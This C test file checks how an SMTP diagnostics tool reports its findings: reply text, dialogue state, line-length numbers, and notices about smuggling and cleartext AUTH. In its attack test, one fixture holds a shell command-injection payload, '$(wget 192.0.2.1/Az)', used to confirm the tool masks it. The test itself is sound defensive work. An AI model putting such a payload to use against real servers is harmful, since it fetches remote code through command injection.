/* What shows a finding: the numbers, the part of the line, the state of the dialogue, the reply. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "diag/cause_state.h"

static void check(struct span got, const char *want)
{
	if (!span_eq(got, span_str(want)))
		fail_msg("%.*s, expected %s", (int)got.n, (const char *)got.p, want);
}

static void evidence_is(const struct exchange *x, enum finding f, const char *want)
{
	char buf[192];

	check(evidence_of(x, f, category_of(x->code, x->enhanced, x->text, x->text_count), buf, sizeof buf), want);
}

/* The reply speaks for itself where it is the evidence. */
static void test_reply(void **state)
{
	static const enum finding said[] = {FINDING_policy_rejection,
					    FINDING_too_many_errors,
					    FINDING_server_rejects_valid_command,
					    FINDING_response_splitting,
					    FINDING_proxy_preface_unexpected,
					    FINDING_auth_required,
					    FINDING_starttls_required,
					    FINDING_auth_failed,
					    FINDING_reply_short};
	const struct span text[] = {SPAN_INIT("first"), SPAN_INIT("Error: no")};
	static char most[150];
	struct span line = span_of(most, sizeof most);
	struct exchange x = {.code = 550,
			     .enhanced = SPAN_INIT("5.7.1"),
			     .text = text,
			     .text_count = 2,
			     .verb_text = SPAN_INIT("MAIL")};

	(void)state;
	for (size_t i = 0; i < sizeof said / sizeof *said; i++)
		evidence_is(&x, said[i], "550 5.7.1 Error: no");
	x.enhanced = SPAN_ABSENT;
	evidence_is(&x, FINDING_policy_rejection, "550 Error: no");
	x.code = 0;
	evidence_is(&x, FINDING_policy_rejection, "Error: no");
	x.code = 1; /* a reply of one digit is no code, but shown as three */
	evidence_is(&x, FINDING_policy_rejection, "001 Error: no");
	x.code = -1;
	evidence_is(&x, FINDING_policy_rejection, "Error: no");
	x.text_count = 0;
	evidence_is(&x, FINDING_policy_rejection, "");
	memset(most, 't', sizeof most);
	memcpy(most + 127, "!?", 2);
	x.text = &line;
	x.text_count = 1;
	evidence_is(&x, FINDING_policy_rejection,
		    "tttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttttt"
		    "ttttttttttttttttttttttttttttt!");
}

/* Of several lines the one that says it; else the first that is a sentence; else the last. */
static void test_telling_line(void **state)
{
	static const struct {
		int code;
		enum finding finding;
		uint32_t defects;
		const char *lines[3];
		unsigned telling;
	} rows[] = {
		{550, FINDING_policy_rejection, 0, {"Sorry about this", "user unknown", "Good bye then"}, 1},
		{550, FINDING_policy_rejection, 0, {"5.9", "Good bye then", "Another sentence here"}, 1},
		{550, FINDING_policy_rejection, 0, {"no", "https://a.example https://b.example", "at all"}, 2},
		{550, FINDING_policy_rejection, 0, {"no", "abc 123", "one two"}, 2},
		{250, FINDING_policy_rejection, 0, {"Some words here", "no", "ok"}, 2},
		{530,
		 FINDING_starttls_required,
		 0,
		 {"Some words here", "Must issue a STARTTLS command first", "ok"},
		 1},
		{503, FINDING_auth_failed, 0, {"Some words here", "ok", "ok"}, 0},
		{250, FINDING_reply_eight_bit, REPLY_DEFECT(EIGHT_BIT), {"plain", "gr\xfc\xdf", "gr\xfc\xdf dich"}, 1},
		{250, FINDING_reply_eight_bit, 0, {"plain", "gr\xfc\xdf", "ok"}, 2},
		{250, FINDING_ehlo_keyword_masked, REPLY_DEFECT(KEYWORD_MASKED), {"mx", "XXXXXXXA", "SIZE"}, 1},
		{250, FINDING_ehlo_keyword_masked, 0, {"mx", "XXXXXXXA", "SIZE"}, 2},
		{250, FINDING_ehlo_keyword_masked, REPLY_DEFECT(EIGHT_BIT), {"mx", "XXXXXXXA", "SIZE"}, 2},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		const struct span text[] = {span_str(rows[i].lines[0]), span_str(rows[i].lines[1]),
					    span_str(rows[i].lines[2])};
		struct exchange x = {.kind = EXCHANGE_COMMAND,
				     .verb = VERB_MAIL,
				     .code = rows[i].code,
				     .text = text,
				     .text_count = 3,
				     .reply_defects = rows[i].defects,
				     .declared_size = EV_NONE,
				     .size_limit = EV_NONE};
		char want[80];

		span_printf(want, 0, sizeof want, "%d %s", rows[i].code, rows[i].lines[rows[i].telling]);
		evidence_is(&x, rows[i].finding, want);
	}
}

/* The line, or the part of it that is wrong. */
static void test_line(void **state)
{
	struct exchange x = {
		.verb_text = SPAN_INIT("MIAL"), .argument = SPAN_INIT("FROM:<a@b.example>"), .bad = SPAN_INIT("a@b")};
	static char most[100];

	(void)state;
	evidence_is(&x, FINDING_unknown_verb_typo, "MIAL FROM:<a@b.example>");
	evidence_is(&x, FINDING_missing_colon, "a@b");
	x.bad = SPAN_ABSENT;
	evidence_is(&x, FINDING_missing_colon, "MIAL FROM:<a@b.example>");
	x.argument = SPAN_ABSENT;
	evidence_is(&x, FINDING_unknown_verb_typo, "MIAL");
	memset(most, 'v', sizeof most);
	x.verb_text = span_of(most, sizeof most);
	evidence_is(&x, FINDING_unknown_verb, "vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv");
	x.verb_text = SPAN("V");
	x.argument = span_of(most, sizeof most);
	evidence_is(&x, FINDING_unknown_verb, "V vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv");
}

static void test_state(void **state)
{
	static const struct {
		uint64_t situation;
		const char *text;
	} rows[] = {
		{0, "EHLO accepted, no MAIL, no RCPT"},
		{SIT(NO_HELLO_REAL), "no EHLO, no MAIL, no RCPT"},
		{SIT(MAIL_OPEN_REAL), "EHLO accepted, MAIL accepted, no RCPT"},
		{SIT(MAIL_OPEN_REAL) | SIT(RCPT_REAL), "EHLO accepted, MAIL accepted, RCPT accepted"},
		{SIT(AUTHENTICATED), "EHLO accepted, no MAIL, no RCPT, authenticated"},
		{SIT(AUTHENTICATED) | SIT(TLS), "EHLO accepted, no MAIL, no RCPT, authenticated, TLS"},
		{SIT(BDAT_OPEN), "EHLO accepted, no MAIL, no RCPT, message half sent"},
		{SIT(BDAT_OPEN) | SIT(BDAT_LAST), "EHLO accepted, no MAIL, no RCPT, BDAT LAST sent"},
		{SIT(BDAT_FAILED) | SIT(BDAT_LAST), "EHLO accepted, no MAIL, no RCPT, chunk refused"},
		{SIT(NO_HELLO) | SIT(MAIL_OPEN) | SIT(RCPT),
		 "EHLO accepted, no MAIL, no RCPT"}, /* what the client believed is not it */
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct exchange x = {.situation = rows[i].situation};

		evidence_is(&x, FINDING_nested_mail, rows[i].text);
	}
}

static void test_numbers(void **state)
{
	struct exchange x = {.declared_size = 2000,
			     .size_limit = 1000,
			     .length = 600,
			     .limit = 512,
			     .announced = 70,
			     .bad = SPAN_INIT("7x"),
			     .verb_text = SPAN_INIT("BDAT")};
	char small[10];

	(void)state;
	evidence_is(&x, FINDING_size_exceeds_limit, "declared 2000, limit 1000");
	evidence_is(&x, FINDING_command_line_too_long, "length 600, limit 512");
	evidence_is(&x, FINDING_auth_line_too_long, "length 600, limit 512");
	evidence_is(&x, FINDING_server_says_too_long, "length 600, every server must take 512");
	evidence_is(&x, FINDING_bdat_mismatch, "announced 70");
	x.announced = EV_NONE;
	evidence_is(&x, FINDING_bdat_mismatch, "7x");
	check(evidence_of(&x, FINDING_size_exceeds_limit, CATEGORY_NONE, small, sizeof small), "declared ");
	check(evidence_of(&x, FINDING_size_exceeds_limit, CATEGORY_NONE, small, 8), "declare");
}

/* What attacks is shown without being repeated; the same attack looks the same (FNV-1a, 64 bits, of the first 16
 * octets). */
static void test_attacks(void **state)
{
	static char code[100];
	struct exchange x = {.verb_text = SPAN_INIT("MAIL"),
			     .argument = SPAN_INIT("$(wget 192.0.2.1/Az)"),
			     .construct = SPAN_INIT("$("),
			     .length = 4000};

	(void)state;
	evidence_is(&x, FINDING_code_injection_address, "$( in $(xxxx xxx.x.x.x/xx)");
	memset(code, 'a', sizeof code);
	code[64] = '|';
	x.argument = span_of(code, sizeof code);
	evidence_is(&x, FINDING_code_injection_address,
		    "$( in xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
	x.verb_text = SPAN("foo");
	x.argument = SPAN("bar");
	evidence_is(&x, FINDING_command_overflow, "length 4000, first octets 85944171f73967e8");
	x.verb_text = SPAN("0123456789");
	x.argument = SPAN("abcdef and more");
	evidence_is(&x, FINDING_command_overflow, "length 4000, first octets 2e373913e5ad677d");
}

/* ---- notices ---- */

static void notice_is(const struct notice *n, const char *given, const char *want)
{
	char buf[128];

	check(notice_evidence(n, given ? span_str(given) : SPAN_ABSENT, buf, sizeof buf), want);
}

static void test_notices(void **state)
{
	(void)state;
	notice_is(&(struct notice){.id = NOTICE_SMUGGLING_ATTEMPT, .text = SPAN("MAIL")}, "LF.LF",
		  "attempt: LF.LF then MAIL");
	notice_is(&(struct notice){.id = NOTICE_SMUGGLING_CONFIRMED, .text = SPAN("MAIL")}, "LF.LF",
		  "confirmed: LF.LF then MAIL");
	notice_is(&(struct notice){.id = NOTICE_STREAM_GAP, .a = 5, .b = 6}, "as given", "as given");
	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN")}, NULL,
		  "LOGIN; STARTTLS was not offered");
	notice_is(&(struct notice){.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN"), .situation = SIT(ADVERTISED)},
		  NULL, "LOGIN; STARTTLS was offered");
	notice_is(
		&(struct notice){
			.id = NOTICE_CLEARTEXT_AUTH, .text = SPAN("LOGIN"), .a = 1, .situation = SIT(ADVERTISED)},
		NULL, "LOGIN; STARTTLS was refused or stripped");
	notice_is(&(struct notice){.id = NOTICE_ALL_REFUSED, .a = 10, .b = 2}, NULL,
		  "10 octets sent, 2 of 2 recipients refused");
	notice_is(&(struct notice){.id = NOTICE_BDAT_NO_LAST, .a = 10}, NULL, "10 octets came, no LAST");
	notice_is(&(struct notice){.id = NOTICE_SIZE_EXCEEDED, .a = 10, .b = 9}, NULL, "10, expected 9");
	notice_is(&(struct notice){.id = NOTICE_STREAM_GAP, .a = 10, .text = SPAN("client")}, NULL,
		  "10 octets of the client");
	notice_is(&(struct notice){.id = NOTICE_ADDRESS_CLAIMED, .text = SPAN("127.0.0.1")}, NULL, "127.0.0.1");
	notice_is(&(struct notice){.id = NOTICE_NO_HANDSHAKE}, NULL, "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_reply),   cmocka_unit_test(test_telling_line),
					   cmocka_unit_test(test_line),    cmocka_unit_test(test_state),
					   cmocka_unit_test(test_numbers), cmocka_unit_test(test_attacks),
					   cmocka_unit_test(test_notices)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
